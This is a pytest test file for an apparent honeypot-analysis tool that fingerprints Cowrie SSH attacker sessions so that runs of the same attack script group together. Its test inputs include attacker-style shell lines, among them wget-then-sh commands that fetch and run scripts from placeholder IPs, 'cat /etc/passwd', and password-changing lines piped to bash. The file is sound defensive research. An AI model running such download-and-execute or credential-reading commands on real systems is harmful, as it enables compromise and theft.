"""Fingerprints: sessions of one script have one, sessions of two scripts two."""

from __future__ import annotations

import json
import random
from collections import Counter, defaultdict
from pathlib import Path
from types import ModuleType
from typing import Any

import independent
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_real_logs import logs

from cowrie_sessionstats.commands import Script, Templates, default_vocabulary, fingerprint
from cowrie_sessionstats.commands.fingerprints import ROOT

TEMPLATES = Templates(default_vocabulary())


def templates_of(lines: list[str]) -> list[str]:
    """Return the template of each line of one session."""
    script = Script()
    return [script.add(line, TEMPLATES) for line in lines]


def test_labelled_pairs(shared: Path) -> None:
    """Every pair of sessions has one fingerprint or two, as people labelled it."""
    for line in (shared / "data/pairs.jsonl").read_text().splitlines():
        pair = json.loads(line)
        same = fingerprint(pair["a"], TEMPLATES) == fingerprint(pair["b"], TEMPLATES)
        assert same == pair["same"], (pair, templates_of(pair["a"]), templates_of(pair["b"]))


rows = st.lists(
    st.sampled_from(
        [
            "id", "uname -a", "", " ", "lockr -ia .ssh", "> lockr", "./lockr x", "passwd", "d29y",
            "Xk29sLq", "echo d29y >> x", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "echo 'a", "b'",
            "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= >> x", "cat " + "x " * 300, "cat <x>" * 90,
            "cd /tmp; wget http://192.0.2.1/kqzxw.sh; sh kqzxw.sh", "./kqzxw.sh",
            "cat " + "y " * 900,
        ]
    ),
    min_size=1,
    max_size=12,
)  # fmt: skip


@settings(max_examples=1000, derandomize=True)
@given(st.lists(rows, max_size=3))
def test_many_lines_count_as_one_after_the_other(given_rows: list[list[str]]) -> None:
    """A row of lines, whether it came before or not."""
    slow, fast = Script(), Script()
    for row in given_rows:
        for line in row:
            slow.add(line, TEMPLATES)
        fast.extend(row, TEMPLATES)
        for name in ("links", "count", "templates", "long", "template", "_last"):
            assert getattr(fast, name) == getattr(slow, name)
    assert fast.fingerprint() == slow.fingerprint()


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_attacks_of_a_corpus_whose_truth_is_known(seed_corpus: ModuleType, seed: int) -> None:
    """Every session of an attack has its fingerprint, and no other attack's session has it.

    An attack whose only part that repeats came no time at all has its last command alone: nothing
    in it says what it would have been.
    """
    draw = random.Random(seed)
    prints: dict[str, Counter[str]] = defaultdict(Counter)
    owners: dict[str, set[str]] = defaultdict(set)
    sessions = 0
    for script, count, _ in seed_corpus.plan(12_066, draw):
        events = seed_corpus.SCRIPTS[script](draw, count)
        lines = [text for kind, text in events if kind == "input"]
        if not lines:
            continue
        sessions += 1
        attack = script if script in seed_corpus.CHUNKED else f"{script}/{count}"
        if script in seed_corpus.CHUNKED and count == 1:
            attack += " without its payload"
        found = fingerprint(lines, TEMPLATES)
        prints[attack][found] += 1
        owners[found].add(attack)
    assert sessions > 11_000
    assert {attack: found for attack, found in prints.items() if len(found) > 1} == {}
    assert {found: attacks for found, attacks in owners.items() if len(attacks) > 1} == {}


@pytest.mark.parametrize("files", list(logs()))
def test_groups_of_real_logs(
    files: list[Path], capsys: pytest.CaptureFixture[str], request: pytest.FixtureRequest
) -> None:
    """Print what the fingerprint makes of each log, for people: see that a group is one attack."""
    sessions: dict[Any, list[str]] = defaultdict(list)
    for event in (event for path in files for event in independent.read_log(path)):
        if event["eventid"] == "cowrie.command.input" and not independent.is_fed(event):
            sessions[event.get("sensor"), event["session"]].append(event["input"])
    groups: dict[str, list[list[str]]] = defaultdict(list)
    for lines in sessions.values():
        groups[fingerprint(lines, TEMPLATES)].append(lines)
    exact = {tuple(lines) for lines in sessions.values()}
    with capsys.disabled():
        print(
            f"\n{request.node.callspec.id}: {len(sessions)} sessions with commands, "
            f"{len(exact)} exact hashes, {len(groups)} fingerprints"
        )
        for found, members in sorted(groups.items(), key=lambda item: -len(item[1]))[:10]:
            print(f"  {len(members):4} x {found}")
            script = Script()
            before = None
            for line in members[0]:
                template = script.add(line, TEMPLATES)
                if template != before:
                    print(f"         {ascii(template)[1:110]}")
                before = template
    assert len(groups) <= len(exact)
    if "2021-mdrfckr" in request.node.callspec.id:
        (group,) = {
            fingerprint(lines, TEMPLATES) for lines in sessions.values() if len(lines) == 15
        }
        assert len(groups[group]) == 48


def test_the_text_form() -> None:
    """Version, folded templates, and 12 hex digits of each chain's last link."""
    assert fingerprint([], TEMPLATES) == f"csf1_0_{ROOT.hex()[:12]}_{ROOT.hex()[:12]}"
    assert fingerprint(["", " \t\n"], TEMPLATES) == fingerprint([], TEMPLATES)
    assert fingerprint(["w", "w", " w "], TEMPLATES) == fingerprint(["w"], TEMPLATES)
    assert fingerprint(["w", "id", "w"], TEMPLATES).startswith("csf1_3_")


def test_sessions_that_begin_alike_share_their_links() -> None:
    """Each prefix of a session has the link of a session that ended there."""
    lines = ["uname -a", "cd /tmp", "wget http://203.0.113.9/x.sh", "sh x.sh"]
    script = Script()
    for end, line in enumerate(lines, 1):
        script.add(line, TEMPLATES)
        assert script.fingerprint() == fingerprint(lines[:end], TEMPLATES)


def test_programs_alone_make_the_second_part() -> None:
    """Other arguments, same programs: the second part is equal, the third is not."""
    ours, theirs = (fingerprint([line], TEMPLATES).split("_") for line in ("uname -a", "uname -r"))
    assert ours[:3] == theirs[:3]
    assert ours[3] != theirs[3]


def test_a_session_keeps_64_names() -> None:
    """More names push out the oldest; the newest keep their numbers, however many came."""
    script = Script()
    shown = [script.add(f"touch name-{i}x; rm name-{i}x", TEMPLATES) for i in range(1000)]
    assert shown[999] == "touch <name1000>; rm <name1000>"
    assert script.add("rm name-936x", TEMPLATES) == "rm <name937>"
    assert script.add("rm name-935x", TEMPLATES) == "rm name-935x"


def test_what_follows_a_password_prompt_is_a_secret_only_if_it_can_be_one() -> None:
    """A command's name after ``passwd`` is a command; a word that is none is the password."""
    assert templates_of(["passwd", "hunter2!", "hunter2!", "id"]) == [
        "passwd", "<secret>", "<secret>", "id",
    ]  # fmt: skip
    assert templates_of(["passwd root", "uname -a"])[1] == "uname -a"
    assert templates_of(["echo a | passwd", "hunter2"])[1] == "hunter2"
    script = Script()
    script.add("passwd", TEMPLATES)
    script.prompted()  # Cowrie fed the prompt: the next line is the shell's
    assert script.add("hunter2", TEMPLATES) == "hunter2"


def test_a_stray_quote_hides_no_command() -> None:
    """Cowrie runs each line by itself: whoever sends a quote alone cannot blind what follows."""
    assert templates_of(["echo 'x", "uname -a", "cat /etc/passwd"])[1:] == [
        "uname -a", "cat /etc/passwd",
    ]  # fmt: skip
    assert templates_of(["'", "uname -a"]) == ["'", "uname -a"]
    a = templates_of(["echo -e 'admin", "XBWk2DfaVCtd", "XBWk2DfaVCtd'|passwd|bash"])
    b = templates_of(["echo -e 'user", "hunter2", "hunter2'|passwd|bash"])
    assert a == b == ["echo -e '<text>", "echo '<text>", "echo <secret> | passwd | bash"]
